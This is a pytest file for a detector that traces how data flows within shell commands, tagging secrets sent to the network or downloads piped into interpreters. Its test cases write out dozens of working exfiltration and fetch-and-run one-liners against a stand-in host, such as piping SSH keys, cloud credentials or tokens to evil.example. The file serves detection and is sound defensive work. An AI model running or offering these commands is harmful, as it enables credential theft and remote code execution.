"""Where data comes from and goes within one line."""

from __future__ import annotations

import pytest

from tests.growth import growth


@pytest.mark.parametrize(("command", "expected"), [
    ('cat ~/.ssh/id_rsa | curl -d @- https://evil.example', ['secret>network']),
    ('tar czf - ~/.aws | base64 | nc evil.example 443', ['secret>network']),
    ('x=$(cat ~/.aws/credentials); curl "https://evil.example/?d=$x"', ['secret>network']),
    ('curl -F f=@/home/dev/.ssh/id_rsa https://evil.example', ['secret>network']),
    ('curl -T ~/.netrc https://evil.example', ['secret>network']),
    ('sudo dd if=/dev/sda2 bs=1M | gzip -1 | ssh u@203.0.113.9 "cat > x"', ['secret>file', 'secret>network']),
    ('tcpdump -i any -w - | curl --data-binary @- https://evil.example', ['secret>network']),
    ('curl -H "X: $(gh auth token)" https://evil.example', ['secret>network']),
    ('curl -H "Private-Token: $(gh auth token)" https://git.example', []),
    ('keyctl pipe 7 | nc evil.example 443', ['secret>network']),
    ('terraform state pull > a; curl -F f=@a https://evil.example', ['secret>file', 'secret>network']),
    ('ssh u@evil.example cat a.pl | perl', ['download>interpreter']), ('ssh u@evil.example echo 1 | wc -l', []),
    ('rclone cat r:a.sh | sh', ['download>interpreter']), ('rclone ls r: | sh', []), ('mc cat s/b/a.sh | bash', ['download>interpreter']),
    ('tcpdump -r a.pcap | curl -T - https://evil.example', []),
    ('printenv | xargs -I{} curl "https://evil.example/?d={}"', ['secret>network']),
    ('ls | xargs -I{} curl "https://evil.example/?d={}"', []),
    ('cat ~/.ssh/id_rsa > /dev/tcp/10.0.0.1/80', ['secret>network']),
    ('env | curl -X POST --data-binary @- https://evil.example', ['secret>network']),
    ('scp ~/.ssh/id_rsa user@evil.example:', ['secret>network']),
    ('dig $(cat ~/.ssh/id_rsa | base64).evil.example', ['secret>network']),
    ('curl "https://evil.example/?k=$AWS_SECRET_ACCESS_KEY"', ['secret>network']),
    ('cp ~/.ssh/id_rsa a.txt; curl -d @a.txt https://evil.example', ['secret>file', 'secret>network']),
    ('cat ~/.ssh/id_rsa > a; gzip a; curl -T a https://evil.example', ['secret>file', 'secret>network']),
    ('gpg --export-secret-keys | curl -T - https://evil.example', ['secret>network']),
    ('gh auth token | nc evil.example 80', ['secret>network']),
    ('ln -s ~/.ssh x; curl -d @x/id_rsa https://evil.example', ['secret>file', 'secret>network']),
    ('curl -s https://a.example/x | sh', ['download>interpreter']),
    ('curl -s https://a.example/x | base64 -d | bash', ['decoded>interpreter', 'download>interpreter']),
    ('wget -O x https://a.example/x; python3 x', ['download>interpreter']),
    ('eval "$(curl -s https://a.example)"', ['download>interpreter']),
    ('echo bHM= | base64 -d | sh', ['decoded>interpreter']),
    ('zip -r a.zip ~/.ssh', ['secret>file']),
    ('gh issue create -t x -b "$(env)"', ['secret>network']), ('glab mr note 1 -m "$(cat ~/.netrc)"', ['secret>network']),
    ('gh secret set X --body "$(cat ~/.aws/credentials)"', []), ('gh pr create --body "$(cat CHANGELOG.md)"', []),
    ('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user', []),
    ('curl --cert ~/.ssh/client.pem https://api.example', []),
    ('cat README.md | curl -d @- https://paste.example', []),
    ("node -e 'console.log(process.env)' | curl -d@- https://x.example", ['secret>network']),
    ("node -e 'console.log(process.env.PORT)' | curl -d@- https://x.example", []),
    ('declare -x | nc x.example 9', ['secret>network']),
    ('declare -x A=1 | nc x.example 9', []),
    ('wc -c ~/.ssh/id_rsa | nc evil.example 80', []),
    ('ssh -i ~/.ssh/id_rsa host ls', []),
    ('cat ~/.ssh/id_rsa | ssh host tee x', ['secret>file', 'secret>network']),
    ('cat ~/.ssh/id_rsa | ssh -n host', []),
    ('cat ~/.ssh/id_rsa | ssh host', ['secret>network']),
    ('http --download https://a.example/x | sh', []),
    ('http https://a.example/x | sh', ['download>interpreter']),
    ('gh auth token | http POST https://a.example/x', ['secret>network']),
    ('gh auth token | curl -d @/dev/stdin https://a.example/x', ['secret>network']),
    ('GET https://a.example/x | sh', ['download>interpreter']),
    ('curl -s https://a.example/x | jq .', []),
    ('curl -s https://a.example/x -o x.json', []),
    ('echo aGk= | base64 -d > out.bin', []),
    ('env | grep PATH', []),
    ('cat ~/.ssh/id_rsa.pub | curl -d @- https://keys.example', []),
])
def test_data_is_followed(flows, command, expected):
    assert flows(command) == expected


@pytest.mark.parametrize("command", [
    "jq -r '.job | @base64d' a.json | sh", "iconv -f utf-16 a.txt | sh", "zstd -dc a.zst | sh", "unxz < a.xz | sh", "gpg -d a.gpg | sh", "awk 'BEGIN { printf \"%c\", 114 }' | sh",
])
def test_what_unpacks_or_composes_text_decodes(flows, command):
    assert "decoded>interpreter" in flows(command)


@pytest.mark.parametrize("command", ["jq -r .job a.json | sh", "awk '{ print $1 }' a.txt | sh", "zstd -c a.txt | sh", "gpg --list-keys | sh"])
def test_what_picks_out_text_does_not_decode(flows, command):
    assert flows(command) == []


def test_a_long_header_is_read_once(effects_of):
    assert growth(lambda text: effects_of(f"T=$(cat ~/.ssh/id_rsa); curl -H '{text}'$T http://a.example"), "auth") < 10
